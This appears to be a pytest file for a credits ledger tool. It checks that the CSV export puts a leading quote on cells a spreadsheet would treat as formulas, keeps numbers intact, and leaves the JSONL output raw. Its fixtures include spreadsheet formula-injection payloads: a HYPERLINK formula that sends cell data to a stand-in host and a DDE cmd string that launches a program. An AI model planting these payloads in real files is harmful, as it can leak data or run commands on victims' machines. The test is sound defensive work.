"""`ledger export --format csv` never writes a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

from mana_credits_adapters.bootstrap import bootstrap
from mana_credits_adapters.settings import Settings
from mana_credits_core import TransactionType

from .conftest import invoke_split

USER = "+49 170 555"  # an id from another system that looks like a formula
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a refund")'
APP = "@SUM(A1:A9)"
KEY = "-2+3+cmd|' /C calc'!A0"


def seed_hostile(url: str) -> None:
    async def work() -> None:
        async with bootstrap(Settings(DATABASE_URL=url), migrate=True) as services:
            await services.credits.credit(USER, 100, TransactionType.GRANT, "a=b is no formula")
            await services.credits.use(USER, 30, APP, HYPERLINK, idempotency_key=KEY)
            await services.credits.refund(USER, 5, "\tindented", metadata={"=x": "-1"})

    asyncio.run(work())


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_formula_cells_are_neutralised_and_numbers_kept(database_url: str, tmp_path: Path) -> None:
    seed_hostile(database_url)
    code, out, err = invoke_split(
        "ledger", "export", "--format", "csv", "--database-url", database_url
    )
    assert code == 0, err
    grant, usage, refund = parse(out)

    assert usage["description"] == "'" + HYPERLINK
    assert usage["appId"] == "'" + APP
    assert usage["idempotencyKey"] == "'" + KEY
    assert refund["description"] == "'\tindented"
    assert {row["userId"] for row in (grant, usage, refund)} == {"'" + USER}
    # Numbers are numbers, negative ones included: never prefixed.
    assert (usage["amount"], usage["balanceBefore"], usage["balanceAfter"]) == ("-30", "100", "70")
    assert (refund["amount"], refund["balanceAfter"]) == ("5", "75")
    # Text that does not start like a formula is left alone; JSON starts with `{`.
    assert grant["description"] == "a=b is no formula"
    assert refund["metadata"] == '{"=x": "-1"}'
    assert grant["type"] == "grant"
    assert grant["idempotencyKey"] == ""
    for row in (grant, usage, refund):
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or column in {"amount"}, (column, cell)

    target = tmp_path / "ledger.csv"
    code, _, err = invoke_split(
        "ledger", "export", "--format", "csv", "-o", str(target), "--database-url", database_url
    )
    assert code == 0, err
    assert parse(target.read_text(encoding="utf-8")) == [grant, usage, refund]


def test_jsonl_keeps_the_values_as_they_are(database_url: str) -> None:
    seed_hostile(database_url)
    code, out, err = invoke_split("ledger", "export", "--database-url", database_url)
    assert code == 0, err
    assert '"description":"=HYPERLINK(' in out
    assert f'"appId":"{APP}"' in out


def test_priced_entries_show_operation_cost_and_accrual_in_columns(database_url: str) -> None:
    async def work() -> None:
        async with bootstrap(Settings(DATABASE_URL=database_url), migrate=True) as services:
            await services.credits.credit("erin", 10, TransactionType.GRANT, "funds")
            await services.credits.use_operation("erin", "bulk_import", 15)  # 0.3 credits
            await services.credits.use_operation("erin", "ai_chat_gemini")  # 2 credits

    asyncio.run(work())
    code, out, err = invoke_split(
        "ledger", "export", "--format", "csv", "--database-url", database_url
    )
    assert code == 0, err
    grant, bulk, chat = parse(out)
    assert (grant["operation"], grant["costMilli"], grant["accruedMilli"]) == ("", "", "")
    assert (bulk["operation"], bulk["costMilli"], bulk["accruedMilli"]) == (
        "bulk_import",
        "300",
        "300",
    )
    assert (bulk["amount"], chat["amount"]) == ("0", "-2")
    assert (chat["operation"], chat["costMilli"], chat["accruedMilli"]) == (
        "ai_chat_gemini",
        "2000",
        "300",
    )
